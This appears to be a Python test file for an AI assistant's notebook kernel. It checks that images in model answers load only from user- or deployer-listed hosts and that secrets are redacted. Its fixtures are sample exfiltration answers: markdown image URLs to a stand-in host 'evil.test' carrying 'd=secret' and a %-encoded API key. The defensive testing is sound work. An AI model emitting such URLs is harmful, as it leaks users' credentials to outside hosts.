"""Which images an answer loads at once, through a real kernel: the person's hosts only.

An answer with images from a host the person listed in their own settings, one a project
file lists, one a deployer's managed file lists and one nobody listed. Only the person's
(or the deployer's) hosts become images; the project's is refused with a notice, and it
and the unlisted host stay placeholders a click loads.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import quote

from ..support.files import write_json

ANSWER = (
    "Charts: ![u](https://user.test/u.png) ![p](https://project.test/p.png) "
    "![m](https://managed.test/m.png) ![e](https://evil.test/e.png?d=secret)"
)


def _images(html: str) -> list[str]:
    return re.findall(r'<img class="co-image" src="([^"]+)"', html)


def _waiting(html: str) -> list[str]:
    return re.findall(r'class="co-remote-image" href="([^"]+)"', html)


def _answer_html(kernel: Any) -> str:
    result = kernel.execute("Show me the charts", mode="headless", timeout=120)
    assert result.status == "ok", result.text()
    return "".join(str(d.get("text/html", "")) for d in result.final_displays().values())


def test_the_users_hosts_load_a_project_files_do_not(
    start_kernel, model_server, workspace: Path, co_home: Path
):
    user_file = write_json(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
    write_json(workspace / ".co" / "settings.json", {"image_hosts": ["project.test", "evil.test"]})
    kernel = start_kernel()  # the folder is trusted: "never" holds even so
    first = kernel.execute("%status")
    assert (
        f"{workspace / '.co' / 'settings.json'}: image_hosts: a project file cannot set this"
        in first.text()
    )
    assert str(user_file) in first.text()
    model_server.extend([{"text": ANSWER}])
    html = _answer_html(kernel)
    assert _images(html) == ["https://user.test/u.png"]
    assert _waiting(html) == [
        "https://project.test/p.png",
        "https://managed.test/m.png",
        "https://evil.test/e.png?d=secret",
    ]
    assert model_server.errors == []


def test_a_deployers_hosts_load_and_lock_the_list(
    start_kernel, model_server, co_home: Path, tmp_path: Path
):
    managed = write_json(tmp_path / "etc-co" / "settings.json", {"image_hosts": ["managed.test"]})
    write_json(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
    kernel = start_kernel({"CO_MANAGED_SETTINGS": str(managed)})
    model_server.extend([{"text": ANSWER}])
    html = _answer_html(kernel)
    assert _images(html) == ["https://managed.test/m.png"]
    assert "https://user.test/u.png" in _waiting(html)
    assert "https://evil.test/e.png?d=secret" in _waiting(html)
    assert model_server.errors == []


def test_a_secret_written_encoded_in_an_image_url_is_not_shown_decoded(
    start_kernel, model_server, co_home: Path
):
    """The placeholder shows a URL decoded; a key of the person's, %-encoded in it by the
    model, must not become readable in the output (nor in the notebook it is saved in)."""
    key = "sk-test-Zq81/xY+secret"
    write_json(co_home / "config" / "settings.json", {"api_key": key})
    kernel = start_kernel()
    encoded = quote(key, safe="")
    assert key not in encoded
    model_server.extend([{"text": f"![s](https://evil.test/c?k={encoded})"}])
    result = kernel.execute("Show me", mode="headless", timeout=120)
    assert result.status == "ok", result.text()
    shown = json.dumps([m["content"] for m in result.messages])
    assert key not in shown
    html = "".join(str(d.get("text/html", "")) for d in result.final_displays().values())
    assert "https://evil.test/c?k=[REDACTED]</code>" in html
    assert model_server.errors == []
